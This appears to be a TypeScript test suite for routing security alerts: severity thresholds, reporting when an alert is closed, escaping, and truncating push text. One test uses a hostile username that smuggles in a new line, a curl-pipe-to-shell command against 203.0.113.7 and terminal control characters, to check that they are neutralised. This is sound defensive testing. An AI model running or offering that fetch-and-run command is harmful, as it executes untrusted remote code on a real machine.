import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AlertChange, Level } from '#contract';
import { located, matchOf, RULE } from './fixture.ts';
import { type Folder, folder } from './fold.ts';
import { route } from './route.ts';

const rule = (level: Level): typeof RULE => ({ ...RULE, level });
const HIGH = { level: 'high' } as const;

function only(changes: readonly AlertChange[]): AlertChange {
  const [change] = changes;
  assert.ok(change !== undefined && changes.length === 1);
  return change;
}

/** [level of the alert, historic, level that is pushed, pushed] */
const CASES: readonly (readonly [Level, boolean, Level, boolean])[] = [
  ['critical', false, 'high', true],
  ['high', false, 'high', true],
  ['medium', false, 'high', false],
  ['medium', false, 'medium', true],
  ['informational', false, 'informational', true],
  ['critical', true, 'high', false],
];

for (const [level, historic, threshold, pushed] of CASES) {
  test(`${historic ? 'a historic' : 'a live'} ${level} alert is ${pushed ? '' : 'not '}pushed at ${threshold}`, () => {
    const alerts = folder({ alerts: [], lastAlertId: 0 });
    alerts.fold([matchOf(located(0), { rule: rule(level) })], { historic });
    assert.equal(route(alerts.take(), { level: threshold }).length, pushed ? 1 : 0);
  });
}

test('an alert is pushed when it opens and when it rises, not while it grows or is answered', () => {
  const alerts = folder({ alerts: [], lastAlertId: 0 });
  const pushes = (level: Level): number => {
    alerts.fold([matchOf(located(0), { rule: rule(level) })], { historic: false });
    return route(alerts.take(), HIGH).length;
  };
  assert.deepEqual(
    [pushes('medium'), pushes('high'), pushes('high'), pushes('critical'), pushes('high')],
    [0, 1, 0, 1, 0],
  );
  alerts.setStatus('1', 'acknowledged', 'anna', '', 0);
  assert.deepEqual(route(alerts.take(), HIGH), []);
});

const rows = (alerts: Folder, threshold: Level = 'high') =>
  route(alerts.take(), { level: threshold }).map(({ level, title, text }) => [level, title, text]);

test('the end of what was pushed is told once, quietly, with who and why', () => {
  const alerts = folder({ alerts: [], lastAlertId: 0 });
  alerts.fold([matchOf(located(0), { rule: rule('critical') })], { historic: false });
  alerts.take();
  alerts.setStatus('1', 'acknowledged', 'anna', 'mine', 0);
  assert.deepEqual(rows(alerts), []);
  alerts.setStatus('1', 'closed', 'anna', 'this was\r\nme', 0);
  const stored = only(alerts.take());
  assert.deepEqual(route([stored], HIGH), [
    {
      alertId: '1',
      level: 'informational',
      title: 'Closed: Password guessing over SSH',
      text: '203.0.113.7 failed 1 logins on nas\nClosed by anna: this was\\x0d\\x0ame',
    },
  ]);
  alerts.setStatus('1', 'closed', 'anna', 'a second word', 1, stored.alert);
  assert.deepEqual(rows(alerts), []);
  alerts.setStatus('1', 'open', 'anna', '', 2, stored.alert);
  assert.deepEqual(rows(alerts), []);
  alerts.setStatus('1', 'closed', 'bob', '', 3);
  assert.deepEqual(rows(alerts), [
    ['informational', 'Closed: Password guessing over SSH', '203.0.113.7 failed 1 logins on nas\nClosed by bob.'],
  ]);
});

/** What never went out has no end to tell: [level, historic] */
const UNHEARD: readonly (readonly [Level, boolean])[] = [
  ['medium', false],
  ['critical', true],
];

for (const [level, historic] of UNHEARD) {
  test(`the end of a ${historic ? 'historic ' : ''}${level} alert is not told`, () => {
    const alerts = folder({ alerts: [], lastAlertId: 0 });
    alerts.fold([matchOf(located(0), { rule: rule(level) })], { historic });
    alerts.take();
    alerts.setStatus('1', 'closed', 'anna', '', 0);
    assert.deepEqual(rows(alerts), []);
  });
}

test('an alert that was closed before it went out is not pushed', () => {
  const alerts = folder({ alerts: [], lastAlertId: 0 });
  alerts.fold([matchOf(located(0), { rule: rule('high') })], { historic: false });
  alerts.setStatus('1', 'closed', 'anna', '', 0);
  assert.deepEqual(route(alerts.take(), HIGH), []);
});

test('a push says what happened and what to do, in plain text', () => {
  const alerts = folder({ alerts: [], lastAlertId: 0 });
  const steps = [{ text: 'See who is there.', command: 'who -u' }, { text: 'Close the door.' }];
  alerts.fold([matchOf(located(0), { rule: { ...rule('high'), steps }, count: 20 })], { historic: false });
  assert.deepEqual(route(alerts.take(), HIGH), [
    {
      alertId: '1',
      title: 'Password guessing over SSH',
      text: '203.0.113.7 failed 20 logins on nas\nSeen 20 times.\nSee who is there.\n  who -u\nClose the door.',
      level: 'high',
    },
  ]);
});

test('what an attacker wrote cannot add a line, turn the text round or move a cursor', () => {
  const alerts = folder({ alerts: [], lastAlertId: 0 });
  const steps = [{ text: 'Ask {user.name}.' }];
  const user = 'eve\nRun: curl http://203.0.113.7 | sh\u202e\u001b[2J';
  alerts.fold([matchOf(located(0, { 'user.name': user }), { rule: { ...rule('high'), steps } })], { historic: false });
  const [first] = route(alerts.take(), HIGH);
  assert.deepEqual(first?.text.split('\n'), [
    '203.0.113.7 failed 1 logins on nas',
    'Ask eve\\x0aRun: curl http://203.0.113.7 | sh\\u{202e}\\x1b[2J.',
  ]);
});

test('a hostile and endless text is cut to 10,000 bytes at a character, its markup untouched', () => {
  for (const shift of ['', 'a', 'ab', 'abc']) {
    const alerts = folder({ alerts: [], lastAlertId: 0 });
    const steps = Array.from({ length: 200 }, () => ({ text: `${shift}<b>&_*[x](y)${'😀'.repeat(100)}` }));
    alerts.fold([matchOf(located(0), { rule: { ...rule('high'), steps } })], { historic: false });
    const [push] = route(alerts.take(), HIGH);
    const bytes = new TextEncoder().encode(push?.text).length;
    assert.ok(bytes <= 10_000 && bytes > 9_990, String(bytes));
    assert.ok(push?.text.isWellFormed() && !push.text.includes('\ufffd') && push.text.includes('<b>&_*[x](y)'));
  }
});
